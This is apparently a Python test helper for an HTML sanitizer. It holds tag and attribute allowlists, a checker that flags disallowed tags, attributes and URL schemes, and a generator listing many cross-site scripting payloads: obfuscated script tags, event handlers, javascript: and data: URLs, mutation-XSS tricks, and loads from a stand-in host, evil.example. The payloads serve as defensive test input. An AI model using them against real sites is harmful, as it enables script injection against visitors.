"""What would harm in HTML that was cleaned, found by other means than those that cleaned it."""

import re
from collections.abc import Callable, Iterator
from html.parser import HTMLParser

SCHEME = re.compile(r"([a-z][a-z0-9+.-]*):", re.IGNORECASE)
CONTROLS = "".join(map(chr, range(33)))

EVERYWHERE = {"lang", "title"}
"""Attributes that do nothing but say something."""

VOID = {"br", "hr", "img"}

OF_COMMENT = {
    **{tag: set() for tag in ("p", "br", "em", "strong", "blockquote")},
    "a": {"href", "rel"},
}
OF_OLD_COMMENT = {
    **OF_COMMENT,
    **{tag: set() for tag in ("s", "pre", "code", "ul", "ol", "li", "q", "cite")},
    "abbr": {"title"},
}
OF_ARTICLE = {
    **{tag: set() for tag in ("p", "br", "h2", "h3", "h4", "ul", "li", "blockquote", "hr")},
    **{tag: set() for tag in ("pre", "code", "strong", "em", "s", "sub", "sup", "figure")},
    **{tag: set() for tag in ("figcaption", "table", "thead", "tbody", "tr")},
    "ol": {"start"},
    "a": {"href", "title"},
    "img": {"src", "alt", "width", "height"},
    "th": {"colspan", "rowspan"},
    "td": {"colspan", "rowspan"},
}
OF_PAGE = {
    **OF_ARTICLE,
    **{tag: {"id"} for tag in ("h2", "h3", "h4", "li", "sup")},
    **{tag: {"class"} for tag in ("figure", "aside", "span")},
    "a": {"href", "title", "class", "aria-label", "rel"},
    "img": {"src", "alt", "width", "height", "srcset", "sizes", "loading", "decoding"},
    "section": {"class", "aria-label"},
    "div": {"class", "role", "aria-label", "tabindex"},
}
"""Which attributes each tag may have: of comments, of those that WordPress kept, of articles and of
these on a page, which adds some."""

SCHEMES_OF_ARTICLE = frozenset({"http", "https", "mailto"})


class Reader(HTMLParser):
    """Reads tags as they stand, and mends nothing."""

    def __init__(self, allowed: dict[str, set[str]], schemes: set[str]) -> None:
        super().__init__(convert_charrefs=True)
        self.allowed, self.schemes = allowed, schemes
        self.open: list[str] = []
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in self.allowed:
            self.found.append(f"<{tag}>")
        for name, value in attrs:
            if name not in self.allowed.get(tag, set()) | EVERYWHERE:
                self.found.append(f"{name}= in <{tag}>")
            elif name in ("href", "src"):
                scheme = scheme_of(value or "")
                if scheme and scheme not in self.schemes:
                    self.found.append(f"{scheme}: in <{tag}>")
        if tag not in VOID:
            self.open.append(tag)

    def handle_endtag(self, tag: str) -> None:
        if not self.open or self.open.pop() != tag:
            self.found.append(f"</{tag}> closes nothing")

    def handle_comment(self, data: str) -> None:
        self.found.append("a comment")

    def handle_decl(self, decl: str) -> None:
        self.found.append("a declaration")

    def handle_pi(self, data: str) -> None:
        self.found.append("an instruction")


def scheme_of(address: str) -> str:
    """Return the scheme of an address as browsers read it (WHATWG URL, 4.4)."""
    bare = address.lstrip(CONTROLS).translate(dict.fromkeys(map(ord, "\t\n\r")))
    found = SCHEME.match(bare)
    return found[1].lower() if found else ""


def faults(
    html: str, allowed: dict[str, set[str]], schemes: frozenset[str] = frozenset({"http", "https"})
) -> list[str]:
    """Return what HTML holds that it may not, and tags that are not closed as they were opened."""
    reader = Reader(allowed, set(schemes))
    reader.feed(html)
    reader.close()
    return reader.found + [f"<{tag}> is left open" for tag in reader.open]


def is_settled(html: str, clean: Callable[[str], str]) -> bool:
    """Whether cleaning HTML again leaves it as it is, but for the spelling of one kind of space."""
    return clean(html) == html.replace("\xa0", "&nbsp;")


SIGNS = [
    *("<", ">", "</", "/>", "&", "&#", "&lt;", "&amp;", '"', "'", "`", "=", ";", "\\", "/", "//"),
    *("*", "**", "_", "> ", "\n", "\n\n", "\r\n", "\t", " ", "\0", "\x0b", "\xa0"),
    "\u202f",
    *("\u2028", "\u202e", "\U0001f333", "é", "a", "alert(1)", "javascript:", "data:"),
    *("https://a.example/", "http://", "mailto:a@b.example", "//b.example", "vbscript:", "x:"),
    *("<!--", "-->", "<![CDATA[", "<![", "]]>", "<?", "<!DOCTYPE html>", "--!>"),
    *("{{", "}}", "{%", "%}"),
    *(" onclick=", " onerror=alert(1)", " style=", " href=", ' href="', " src=x", " id=b"),
    *(" srcset=", " xlink:href=", " formaction=", " autofocus", " is=x", " xmlns=", " title='"),
]  # fmt: skip
TAGS = [
    *("a", "p", "b", "i", "em", "strong", "blockquote", "br", "img", "script", "style", "svg"),
    *("math", "mtext", "mglyph", "noscript", "template", "iframe", "object", "embed", "form"),
    *("input", "textarea", "title", "table", "tr", "td", "caption", "select", "option", "li", "ul"),
    *("pre", "code", "q", "abbr", "base", "link", "meta", "body", "html", "head", "foreignObject"),
    *("annotation-xml", "plaintext", "xmp", "noembed", "listing", "details", "video", "s", "del"),
]
WHOLE = [
    *("<sup><a href='#a'>1</a></sup>", "<sup><a href='#b'>2</a></sup>", "<ol><li>", "<ol start=2>"),
    *("</li></ol>", "<blockquote><p>", "<p>— ", "</p></blockquote>", "<h2>", "</h2>", "<h3>"),
    *("<p><a href=https://a.example/>a</a></p>", "<img src=/media/a.png>", "<figure><img src=a>"),
    *("<figcaption>", "</figcaption></figure>", "<table><tbody><tr><td>", "</td></tr></table>"),
    *("[caption]", "[/caption]", "[gallery]", "[quote]", "<!-- wp:quote -->", "<!-- /wp:quote -->"),
    *(
        "<!-- wp:paragraph -->",
        '<!-- wp:block {"ref":1} /-->',
        "<pre>\n",
        "<pre><code>",
        " lang=fr",
    ),
]
"""What an article is made of, and what is done with it."""
PIECES = [*SIGNS, *WHOLE, *(f"<{tag}>" for tag in TAGS), *(f"</{tag}>" for tag in TAGS)]
PIECES += [f"<{tag}" for tag in TAGS]
"""What texts are made of that want to be taken for something else."""


def vectors() -> Iterator[str]:
    """Yield texts of the kinds that become scripts where cleaning is done by halves."""
    calls = "alert(1)"
    for tag in ("script", "SCRIPT", "ScRiPt", "script/x", "script\n", "scr\0ipt", "script "):
        yield f"<{tag}>{calls}</script>"
    yield f"<<script>{calls}//<</script>"
    yield f"<scr<script>ipt>{calls}</scr</script>ipt>"
    yield f"<script>{calls}"
    yield "<script src=//evil.example/x.js></script>"
    for tag, event in (
        *(("img src=x", "onerror"), ("svg", "onload"), ("body", "onload"), ("p", "onclick")),
        *(("a href=https://a.example/", "onmouseover"), ("input autofocus", "onfocus")),
        *(("details open", "ontoggle"), ("video src=x", "onerror"), ("marquee", "onstart")),
    ):
        for mark in (" ", "/", "\n", "\t", "\x0c", '"'):
            yield f"<{tag}{mark}{event}={calls}>"
            yield f"<{tag}{mark}{event.upper()} = '{calls}'"
    for scheme in (
        *("javascript:", "JaVaScRiPt:", "java\tscript:", "java\nscript:", "\x01javascript:"),
        *("&#106;avascript:", "&#x6A;avascript:", "&#0000106avascript:", "java&Tab;script:"),
        *("javascript&colon;", " javascript:", "vbscript:", "data:text/html,", "view-source:"),
        *("jar:", "feed:javascript:", "data:image/svg+xml;base64,"),
    ):
        for quote in ('"', "'", "", "`"):
            yield f"<a href={quote}{scheme}{calls}{quote}>x</a>"
        yield f"<img src='{scheme}{calls}'>"
        yield f"<iframe src='{scheme}{calls}'></iframe>"
        yield f"<form action='{scheme}{calls}'><button formaction='{scheme}{calls}'>"
        yield f"[x]({scheme}{calls})"
        yield f"<{scheme}{calls}>"
        yield f"{scheme}{calls}"
    for style in (
        "background:url(javascript:alert(1))",
        "width:expression(alert(1))",
        "x:\\75rl(x)",
    ):
        yield f'<p style="{style}">x</p>'
        yield f"<style>p{{{style}}}</style>"
    yield "<style>@import '//evil.example/x.css';</style>"
    yield "<link rel=stylesheet href=//evil.example/x.css><base href=//evil.example/>"
    yield "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>"
    yield "<object data=//evil.example/x.swf></object><embed src=//evil.example/x.swf>"
    # What a browser reads in another way than whoever cleans: other grammars within HTML.
    yield f"<svg><style><img src=x onerror={calls}></style></svg>"
    hidden = f"--&gt;&lt;img src=x onerror={calls}&gt;"
    yield f"<math><mtext><table><mglyph><style><!--</style><img title='{hidden}'>"
    yield f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={calls}>"
    yield f"<noscript><p title='</noscript><img src=x onerror={calls}>'>"
    yield f"<textarea><p title='</textarea><img src=x onerror={calls}>'></textarea>"
    yield f"<title><a title='</title><img src=x onerror={calls}>'></a></title>"
    yield f"<xmp><p title='</xmp><img src=x onerror={calls}>'></xmp>"
    yield f"<template><script>{calls}</script></template><plaintext><script>{calls}</script>"
    yield f"<svg><![CDATA[><img src=x onerror={calls}>]]></svg>"
    yield f"<!--><img src=x onerror={calls}>--><!--[if IE]><script>{calls}</script><![endif]-->"
    yield f"<!--a--!><img src=x onerror={calls}>"
    yield f"<?xml version='1.0'?><x xmlns:h='http://www.w3.org/1999/xhtml'><h:script>{calls}"
    yield f"<svg><a xlink:href='javascript:{calls}'><text>x</text></a></svg>"
    yield "<svg><use href='data:image/svg+xml,x'/></svg>"
    yield f"<svg><animate attributeName=href values=javascript:{calls} /><set to=x></svg>"
    # Quotation marks and signs by which one leaves an attribute or a text.
    yield f'"><script>{calls}</script>'
    yield f"'><img src=x onerror={calls}>"
    yield f"<a href='https://a.example/\" onmouseover={calls} x=\"'>x</a>"
    yield f'https://a.example/"onmouseover={calls}//'
    yield f"https://a.example/'><script>{calls}</script>"
    yield f"https://a.example/&quot;onclick={calls}"
    yield f"<a href=https://a.example/&quot;&gt;&lt;script&gt;{calls}>x</a>"
    yield f"&lt;script&gt;{calls}&lt;/script&gt;"
    yield f"+ADw-script+AD4-{calls}+ADw-/script+AD4-"
    yield f"\uff1cscript\uff1e{calls}\uff1c/script\uff1e"
    yield f"> <script>{calls}</script>\n> *<img src=x onerror={calls}>*"
    yield f"**<svg/onload={calls}>**"
    yield f"<p/title='</p><script>{calls}</script>'>"
    yield f"<img src=`x`onerror={calls}>"
    yield f'<img """><script>{calls}</script>">'
    yield f"<a\x0bonclick={calls} href='https://a.example/'>x</a>"
    yield f"<div id=x name=y class=z data-hx-get=//evil.example hx-on:click={calls}>x</div>"
    yield "<input name=body><form id=comment-form><a id=location href=https://a.example/>x</a>"
